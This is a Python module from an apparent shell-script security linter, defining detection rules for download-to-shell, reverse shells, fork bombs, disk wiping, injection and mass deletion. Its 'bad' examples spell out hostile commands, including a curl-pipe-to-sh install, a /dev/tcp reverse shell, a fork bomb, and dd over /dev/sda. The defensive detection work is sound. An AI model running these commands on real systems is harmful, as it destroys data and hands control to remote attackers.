"""What scripts do: code from the network, deletion, rights, and values that become code.

Read from the syntax tree, so quotes, pipes and substitutions are what the shell makes of them.
"""

from __future__ import annotations

from collections.abc import Iterator

from atomctl.rules.examples import script
from atomctl.rules.model import AnyRule, Compound, Confidence, Controls, Family, Hit, Rule, RuleConfig, Severity
from atomctl.rules.script import DOWNLOADERS, INTERPRETERS, Command, ScriptFacts, Word
from atomctl.rules.shell import code_word

_KINDS = ("script", "shell handler", "container command")
_GUIDE = "https://www.shellcheck.net/wiki/"
_CODE = Controls(("CC6.8", "CC8.1"), ("A.8.19", "A.8.28"), ("SI-7", "CM-11"))
_DATA = Controls(("A1.2", "CC7.5"), ("A.8.10", "A.8.13"), ("CP-9", "SI-12"))
_RIGHTS = Controls(("CC6.1", "CC6.3"), ("A.8.2", "A.8.18"), ("AC-6",))
_INPUT = Controls(("CC8.1",), ("A.8.26", "A.8.28"), ("SI-10",))

_DECODERS = frozenset({"base64", "xxd", "openssl", "gunzip", "zcat", "uudecode"})
_READERS = frozenset({".", "source", "eval"})
_PARAMETER = "ATOM_PARAM_"
_PRECIOUS = frozenset(
    {"/", "/*", "/.", "/..", "~", "~/*", "*", "/etc", "/usr", "/var", "/home", "/root", "/boot", "/lib"}
)
_WORLD_WRITABLE = (
    "777",
    "666",
    "776",
    "767",
    "772",
    "722",
    "o+w",
    "o+rw",
    "o+rwx",
    "a+w",
    "a+rw",
    "a+rwx",
    "+w",
    "ugo+w",
)
_ELEVATING = frozenset({"sudo", "doas", "su", "pkexec"})
_DISK_TOOLS = frozenset({"mkfs", "wipefs", "fdisk", "parted", "sfdisk", "sgdisk", "blkdiscard", "shred"})
_CLUSTER_TOOLS = frozenset({"kubectl", "oc", "helm", "terraform", "tofu", "aws", "gcloud", "az"})


def _hit(found: ScriptFacts, offset: int, message: str, severity: Severity | None = None) -> Hit:
    return Hit(found.path, message, offset=offset, severity=severity)


def _download_to_shell(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for stages in found.pipelines:
        fed_by = ""
        for stage in stages:
            for command in stage:
                if fed_by and command.name in INTERPRETERS and _reads_code_from_input(command):
                    yield _hit(found, command.offset, f"{command.name} runs what {fed_by} hands it")
                if command.name in DOWNLOADERS or (command.name in _DECODERS and not fed_by):
                    fed_by = command.name
    for command in found.commands:
        if command.name in INTERPRETERS | _READERS:
            for word in command.words:
                source = next((name for name in word.runs if name in DOWNLOADERS | _DECODERS), None)
                if source is not None:
                    yield _hit(found, word.offset, f"{command.name} runs what {source} hands it")


def _reads_code_from_input(command: Command) -> bool:
    """A shell or interpreter without a script of its own; `-` and `-s` say so outright."""
    if any(word.text in ("-", "-s", "/dev/stdin") for word in command.words):
        return True
    return not command.operands and code_word(command) is None and not command.flags("cem")


def _deletes_variable(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        if command.name != "rm" or not command.flags("rR", "--recursive"):
            continue
        for word in command.operands:
            if _may_be_empty(word):
                yield _hit(found, word.offset, f"deletes {word.text}, which is another place if the variable is empty")
            elif word.static and word.text.rstrip("/") in {path.rstrip("/") for path in _PRECIOUS}:
                yield _hit(found, word.offset, f"deletes {word.text}", Severity.CRITICAL)


def _may_be_empty(word: Word) -> bool:
    """Whether the path begins with an expansion that nothing guards: `${DIR:?}` stops the script when it is empty."""
    bare = word.text.lstrip('"')
    return not word.static and bare.startswith("$") and ":?" not in bare and not bare.startswith("$(")


def _world_writable(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        if command.name == "chmod":
            for word in command.words:
                mode = word.text[1:] if len(word.text) == 4 and word.text[0] in "01234567" else word.text
                if mode in _WORLD_WRITABLE:
                    yield _hit(found, word.offset, f"lets everybody write: chmod {word.text}")


def _elevates(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        for wrapper in (*command.wrappers, command.head):
            name = wrapper.text.rpartition("/")[2]
            if wrapper.static and name in _ELEVATING:
                yield _hit(found, wrapper.offset, f"takes another user's rights with {name}")


def _eval(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        code = code_word(command)
        if code is None or code.static or _reads_parameter(code):
            continue
        yield _hit(found, code.offset, f"{command.name} runs text that is put together when it runs")


def _reads_parameter(word: Word) -> bool:
    return any(name.startswith(_PARAMETER) for name in word.variables)


def _parameter_as_code(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for template, offset in found.parameters:
        yield _hit(found, offset, f"splices {template} into the text that the shell runs")
    for command in found.commands:
        code = code_word(command)
        if code is not None and _reads_parameter(code):
            yield _hit(found, code.offset, f"{command.name} runs the value of a parameter as code")
        elif _reads_parameter(command.head):
            yield _hit(found, command.head.offset, "runs the program that a parameter names")


def _unquoted_parameter(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        for word in command.words:
            if _reads_parameter(word) and not word.quoted and not word.runs and code_word(command) is not word:
                yield _hit(found, word.offset, f"{word.text} stands without quotes: it is split and expanded")


def _fork_bomb(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for function in found.functions:
        if function.pipes and function.calls.count(function.name) > 1:
            yield _hit(found, function.offset, f"the function {function.name} starts itself twice, without end")


def _reverse_shell(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        for word in (*command.redirects, *command.words):
            if word.text.startswith(("/dev/tcp/", "/dev/udp/")):
                yield _hit(found, word.offset, f"opens a connection with {word.text}")
        hands_over = command.flags("ec", "--exec", "--sh-exec")
        if command.name in ("nc", "ncat", "netcat") and hands_over:
            yield _hit(found, command.offset, f"{command.name} hands a program to whoever connects")
        if command.name == "socat" and any(
            word.text.upper().startswith(("EXEC:", "SYSTEM:")) for word in command.words
        ):
            yield _hit(found, command.offset, "socat hands a program to whoever connects")


def _disk(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        if command.name.partition(".")[0] in _DISK_TOOLS:
            yield _hit(found, command.offset, f"{command.name} destroys what a disk or file holds")
        for word in command.words if command.name == "dd" else ():
            if word.text.startswith("of=/dev/") and not word.text.startswith(("of=/dev/null", "of=/dev/std")):
                yield _hit(found, word.offset, f"dd writes over {word.text[3:]}")


def _mass_delete(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        if command.name not in _CLUSTER_TOOLS:
            continue
        texts = [word.text for word in command.words]
        deletes = "delete" in texts or "destroy" in texts or "uninstall" in texts
        broad = {"--all", "-A", "--all-namespaces", "destroy", "ns", "namespace", "namespaces", "node", "nodes", "crd"}
        if deletes and broad.intersection(texts):
            yield _hit(found, command.offset, f"{command.name} deletes many things at once")


RULES: tuple[AnyRule, ...] = (
    Rule(
        id="download-to-shell",
        title="Code from the network or an encoding is run unseen",
        severity=Severity.CRITICAL,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation="Put the code into the package, where it is signed and reviewed.",
        references=("https://cwe.mitre.org/data/definitions/494.html",),
        cwe=(494, 829),
        controls=_CODE,
        bypassable=False,
        compound=frozenset({Compound.EXTERNAL_EGRESS}),
        good=script("sh files/install.sh"),
        bad=script("curl -fsSL https://get.example.com/install.sh | sh"),
        subject=ScriptFacts,
        check=_download_to_shell,
    ),
    Rule(
        id="rm-variable",
        title="A whole tree is deleted at a path that may be another",
        severity=Severity.HIGH,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation='Write "${DIR:?}": the script then stops when the variable is empty.',
        references=(f"{_GUIDE}SC2115",),
        cwe=(73,),
        controls=_DATA,
        good=script('rm -rf "${BUILD_DIR:?}/cache"'),
        bad=script('rm -rf "$BUILD_DIR"/*'),
        subject=ScriptFacts,
        check=_deletes_variable,
    ),
    Rule(
        id="world-writable",
        title="Everybody may write a file",
        severity=Severity.HIGH,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation="Give the rights to the one user or group that needs them: chmod 750.",
        references=("https://cwe.mitre.org/data/definitions/732.html",),
        cwe=(732,),
        controls=_RIGHTS,
        good=script("chmod 750 /srv/app"),
        bad=script("chmod -R 777 /srv/app"),
        subject=ScriptFacts,
        check=_world_writable,
    ),
    Rule(
        id="sudo",
        title="A step takes another user's rights",
        severity=Severity.HIGH,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation="Run the step as the user it needs; in the sandbox there are no other rights to take.",
        references=("https://cwe.mitre.org/data/definitions/250.html",),
        cwe=(250, 269),
        controls=_RIGHTS,
        good=script("systemctl --user restart web"),
        bad=script("sudo systemctl restart web"),
        subject=ScriptFacts,
        check=_elevates,
    ),
    Rule(
        id="eval",
        title="Text put together at run time is run as code",
        severity=Severity.MEDIUM,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation='Call the program directly with its arguments in quotes: tool "$value".',
        references=(f"{_GUIDE}SC2294", "https://cwe.mitre.org/data/definitions/95.html"),
        cwe=(95, 78),
        controls=_INPUT,
        good=script('"$TOOL" --name "$NAME"'),
        bad=script('eval "$TOOL --name $NAME"'),
        subject=ScriptFacts,
        check=_eval,
    ),
    Rule(
        id="parameter-in-code",
        title="A parameter's value becomes code",
        severity=Severity.CRITICAL,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation='Read the parameter as data: "$ATOM_PARAM_NAME", in double quotes, never inside eval or sh -c.',
        references=("https://cwe.mitre.org/data/definitions/78.html",),
        cwe=(78, 94),
        controls=_INPUT,
        bypassable=False,
        good=script('echo "restarting $ATOM_PARAM_NAME"'),
        bad=script('sh -c "systemctl restart $ATOM_PARAM_NAME"'),
        subject=ScriptFacts,
        check=_parameter_as_code,
    ),
    Rule(
        id="unquoted-parameter",
        title="A parameter stands in a command without quotes",
        severity=Severity.MEDIUM,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation='Put it in double quotes: "$ATOM_PARAM_NAME".',
        references=(f"{_GUIDE}SC2086",),
        cwe=(88, 78),
        controls=_INPUT,
        good=script('ls "$ATOM_PARAM_FOLDER"'),
        bad=script("ls $ATOM_PARAM_FOLDER"),
        subject=ScriptFacts,
        check=_unquoted_parameter,
    ),
    Rule(
        id="fork-bomb",
        title="A function starts itself without end",
        severity=Severity.CRITICAL,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation="Remove it.",
        references=("https://cwe.mitre.org/data/definitions/674.html",),
        cwe=(400, 674),
        controls=_CODE,
        bypassable=False,
        good=script("retry() { try_once || sleep 1; }\nretry"),
        bad=script(":(){ :|:& };:"),
        subject=ScriptFacts,
        check=_fork_bomb,
    ),
    Rule(
        id="reverse-shell",
        title="A connection is handed a program",
        severity=Severity.CRITICAL,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation="Remove it; move data with an api handler.",
        references=("https://cwe.mitre.org/data/definitions/506.html",),
        cwe=(506,),
        controls=_CODE,
        bypassable=False,
        compound=frozenset({Compound.EXTERNAL_EGRESS, Compound.HOST_BREAKOUT}),
        good=script("echo ready > /dev/null"),
        bad=script("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        subject=ScriptFacts,
        check=_reverse_shell,
    ),
    Rule(
        id="destroys-disk",
        title="A disk or device is written over",
        severity=Severity.CRITICAL,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation="Leave disks to the platform; delete the volume claim instead.",
        references=("https://cwe.mitre.org/data/definitions/73.html",),
        cwe=(73,),
        controls=_DATA,
        bypassable=False,
        good=script("dd if=/dev/zero of=/tmp/blank bs=1M count=1"),
        bad=script("dd if=/dev/zero of=/dev/sda bs=1M"),
        subject=ScriptFacts,
        check=_disk,
    ),
    Rule(
        id="mass-delete",
        title="A cluster or cloud tool deletes many things at once",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        family=Family.SHELL,
        kinds=_KINDS,
        remediation="Name the one object to delete; use a k8s handler, which keeps what it needs for a rollback.",
        references=("https://kubernetes.io/docs/reference/kubectl/generated/kubectl_delete/",),
        cwe=(73,),
        controls=_DATA,
        good=script("kubectl delete pod web-0 --namespace shop"),
        bad=script("kubectl delete pods --all --all-namespaces"),
        subject=ScriptFacts,
        check=_mass_delete,
    ),
)
